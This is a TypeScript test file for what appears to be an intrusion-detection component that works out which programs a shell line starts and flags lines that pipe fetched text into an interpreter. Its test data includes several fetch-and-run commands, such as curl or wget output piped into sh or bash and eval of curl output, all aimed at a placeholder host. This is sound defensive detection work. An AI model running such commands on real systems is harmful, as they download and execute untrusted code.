import assert from "node:assert/strict";
import { test } from "node:test";
import { startMarks } from "../../src/find/intruder/start-marks.ts";
import { startedBy } from "../../src/find/intruder/started.ts";

/** Line → the programs that it starts; "<" for one read from a pipe, "text" for one given as an option. */
const LINES: readonly (readonly [string, readonly string[]])[] = [
  ["/usr/sbin/a -b >/dev/null 2>&1", ["/usr/sbin/a"]],
  ["cd /tmp && ./x -a", ["/tmp/x"]],
  ["cd / && run-parts --report /etc/cron.daily", ["run-parts"]],
  ["flock -n /tmp/lock /usr/bin/b > /tmp/log", ["/usr/bin/b"]],
  ["flock -n /tmp/lock -c '/usr/bin/b; /usr/bin/c'", ["/usr/bin/b", "/usr/bin/c"]],
  ["sudo -u deploy nohup nice -n 10 /dev/shm/x &", ["/dev/shm/x"]],
  ["timeout -k 5 60 /usr/bin/d", ["/usr/bin/d"]],
  ["su - deploy -c '/opt/e -f'", ["/opt/e"]],
  ["screen -dmS name /tmp/.a/b", ["/tmp/.a/b"]],
  ["A=1 B=2 /usr/bin/g", ["/usr/bin/g"]],
  ["bash /tmp/s.sh arg", ["/tmp/s.sh"]],
  ["python3 -u manage.py run", ["manage.py"]],
  ["sh -c 'cd /srv; ./h'", ["text", "/srv/h"]],
  ["curl -s https://a.example | sudo -E bash -", ["curl", "<"]],
  ["find /tmp -mtime +7 -delete", ["find"]],
];

test("what a line starts is seen behind its wrappers", () => {
  for (const [line, programs] of LINES) {
    const told = startedBy(line).map(({ program, runs }) => program ?? (runs === "input" ? "<" : "text"));
    assert.deepEqual(told, programs, line);
  }
});

/** Fetched texts that go into an interpreter, and neighbours that do not. */
const FETCHED: readonly (readonly [string, boolean])[] = [
  ["curl -s https://a.example | sh", true],
  ["(curl -fsSL https://a.example || wget -q -O- https://a.example) | bash", true],
  ['sh -c "$(curl -fsSL https://a.example)"', true],
  ["bash <(wget -qO- https://a.example)", true],
  ['eval "$(curl -s https://a.example)"', true],
  ["curl -s https://a.example | jq .", false],
  ["curl -s https://a.example > /dev/null; sh /opt/a.sh", false],
  ['eval "$(ssh-agent -s)"', false],
  ["echo curl | sh", false],
];

test("a fetched text that is run is told from one that is only fetched", () => {
  for (const [line, expected] of FETCHED) {
    assert.equal(
      startMarks(line).some(({ id }) => id === "fetched"),
      expected,
      line,
    );
  }
});

test("lines within lines end, however deep", () => {
  const deep = `${"sh -c '".repeat(3_000)}/tmp/x`;
  assert.ok(startedBy(deep).length < 100);
  assert.ok(startedBy("sudo ".repeat(3_000)).length < 100);
});
